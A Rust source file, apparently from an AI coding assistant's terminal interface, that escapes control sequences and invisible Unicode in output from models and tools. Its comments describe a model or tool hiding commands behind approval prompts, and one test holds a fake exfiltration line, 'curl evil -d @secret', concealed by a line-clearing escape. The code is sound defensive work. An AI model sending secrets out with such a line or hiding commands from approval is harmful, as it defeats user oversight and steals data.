//! Text from the model, a tool or any other outside party, made safe to
//! show on a terminal: the one statement of which characters a terminal
//! obeys or prints as nothing, for the CLI's lines and the TUI's cells.
//!
//! A terminal obeys control sequences in what it prints: a model (or a
//! page it fetched, or an MCP server naming its tools) could move the
//! cursor to hide part of a command behind an approval question, rewrite
//! lines, set the clipboard (OSC 52), or reorder text with bidirectional
//! overrides. Characters that print as nothing (a zero-width space, a
//! byte-order mark, a line separator, variation selectors after plain
//! letters, tag characters) can hide text too: a URL that looks like
//! `?q=hi` can carry a payload in them.

use std::borrow::Cow;

use unicode_general_category::{GeneralCategory, get_general_category};

/// `text` with every character that a terminal obeys or that prints as
/// nothing (except newline and tab) written out as a visible escape.
pub fn printable(text: &str) -> Cow<'_, str> {
    rewrite(text, |_| None, needs_escape)
}

/// `text` with each character `replace` has a stand-in for written as that,
/// and each one `escape` picks (given the one before it) written out as a
/// visible escape; borrowed when nothing changes, which is nearly always.
/// The one loop behind [`printable`] and the TUI's cells.
pub fn rewrite(
    text: &str,
    replace: impl Fn(char) -> Option<&'static str>,
    escape: impl Fn(char, Option<char>) -> bool,
) -> Cow<'_, str> {
    let mut previous = None;
    let clean = text.chars().all(|c| {
        let ok = replace(c).is_none() && !escape(c, previous);
        previous = Some(c);
        ok
    });
    if clean {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    let mut previous = None;
    for c in text.chars() {
        if let Some(stand_in) = replace(c) {
            out.push_str(stand_in);
        } else if escape(c, previous) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
        previous = Some(c);
    }
    Cow::Owned(out)
}

/// Whether `c` (after `previous`) must be written out as an escape: a
/// character a terminal obeys or that prints as nothing. Newline and tab
/// are left to the caller (a line keeps them, a cell cannot).
pub fn needs_escape(c: char, previous: Option<char>) -> bool {
    // Answered for ASCII without the category tables, which were most of
    // the time `printable` took over a long transcript (4 s for 3 MB in a
    // debug build); `by_category` gives the same answers, as a test checks.
    if c.is_ascii() {
        return ascii_needs_escape(c);
    }
    by_category(c, previous)
}

/// ASCII's only characters to escape are its controls.
fn ascii_needs_escape(c: char) -> bool {
    c.is_ascii_control() && c != '\n' && c != '\t'
}

fn by_category(c: char, previous: Option<char>) -> bool {
    use GeneralCategory::*;
    match get_general_category(c) {
        Control => c != '\n' && c != '\t',
        // Bidirectional overrides and isolates, zero-width spaces and
        // joiners, the byte-order mark, soft hyphens, tag characters.
        Format | LineSeparator | ParagraphSeparator => true,
        // Looks like a space, is not one to a shell or a path.
        SpaceSeparator => c != ' ',
        _ => invisible_mark(c, previous),
    }
}

/// Letters and marks that print as nothing. Emoji presentation selectors
/// (U+FE0E, U+FE0F) are kept after a non-ASCII character, where they pick
/// how a symbol is drawn (`❤️`); after anything else they carry only hidden
/// bits.
fn invisible_mark(c: char, previous: Option<char>) -> bool {
    match c {
        '\u{fe0e}' | '\u{fe0f}' => previous.is_none_or(|p| p.is_ascii() || is_selector(p)),
        '\u{034f}'
        | '\u{115f}'
        | '\u{1160}'
        | '\u{17b4}'
        | '\u{17b5}'
        | '\u{3164}'
        | '\u{ffa0}'
        | '\u{180b}'..='\u{180f}' => true,
        _ => is_selector(c),
    }
}

fn is_selector(c: char) -> bool {
    matches!(c, '\u{fe00}'..='\u{fe0f}' | '\u{e0100}'..='\u{e01ef}')
}

#[cfg(test)]
mod tests {
    use super::{ascii_needs_escape, by_category, printable};

    #[test]
    fn the_ascii_shortcut_agrees_with_the_categories() {
        for c in (0u8..=127).map(char::from) {
            for previous in [None, Some('a'), Some('\u{1b}')] {
                assert_eq!(ascii_needs_escape(c), by_category(c, previous), "{c:?}");
            }
        }
    }

    #[test]
    fn control_sequences_become_visible() {
        let hidden = "curl evil -d @secret\r\u{1b}[2K  $ git status";
        let shown = printable(hidden);
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\r'),
            "{shown}"
        );
        assert!(
            shown.contains("curl evil") && shown.contains("\\u{1b}"),
            "{shown}"
        );
    }

    #[test]
    fn bidi_overrides_become_visible_and_plain_text_is_untouched() {
        assert!(printable("a\u{202e}b").contains("\\u{202e}"));
        assert_eq!(
            printable("line one\n\tline two ✓"),
            "line one\n\tline two ✓"
        );
    }

    #[test]
    fn invisible_characters_become_visible() {
        for (c, shown) in [
            ('\u{200b}', "\\u{200b}"),
            ('\u{200d}', "\\u{200d}"),
            ('\u{2028}', "\\u{2028}"),
            ('\u{2029}', "\\u{2029}"),
            ('\u{feff}', "\\u{feff}"),
            ('\u{2060}', "\\u{2060}"),
            ('\u{00ad}', "\\u{ad}"),
            ('\u{00a0}', "\\u{a0}"),
            ('\u{3164}', "\\u{3164}"),
            ('\u{e0041}', "\\u{e0041}"),
            ('\u{fe01}', "\\u{fe01}"),
            ('\u{e0100}', "\\u{e0100}"),
        ] {
            let text = format!("rm x{c}y");
            let out = printable(&text);
            assert_eq!(out, format!("rm x{shown}y"), "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn emoji_keep_their_presentation_selector_and_plain_letters_do_not() {
        assert_eq!(printable("ok ❤\u{fe0f}"), "ok ❤\u{fe0f}");
        assert_eq!(printable("q=hi\u{fe0f}\u{fe0e}"), "q=hi\\u{fe0f}\\u{fe0e}");
        assert_eq!(printable("❤\u{fe0f}\u{fe0f}"), "❤\u{fe0f}\\u{fe0f}");
    }
}
